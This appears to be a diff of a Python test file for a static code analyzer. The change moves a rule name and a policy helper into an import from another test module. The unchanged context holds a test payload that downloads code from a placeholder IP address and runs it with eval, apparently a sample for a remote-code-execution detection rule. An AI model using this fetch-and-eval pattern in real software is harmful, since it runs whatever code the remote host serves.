@@ -17,6 +17,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import redteam_kit as kit
+from test_hardening52 import PAYLOAD_RULE, _policy
 from analyzer import api
 from analyzer.engine import analysis, isolate
 from analyzer.engine.rules import load_rules
@@ -25,13 +26,6 @@ from analyzer.policy import load_policy
 
 PAYLOAD = ('code = urllib.request.urlopen("http://203.0.113.5/x").read().decode()\n'
            'eval(code)\n')
-PAYLOAD_RULE = "remote-code.exec-downloaded"
-
-
-def _policy(tmp_path: Path, seconds: int):
-    path = tmp_path / "site-policy.yaml"
-    path.write_text(f"limits:\n  max_analysis_seconds: {seconds}\n")
-    return load_policy(path)
 
 
 def _padding(lines: int) -> str:
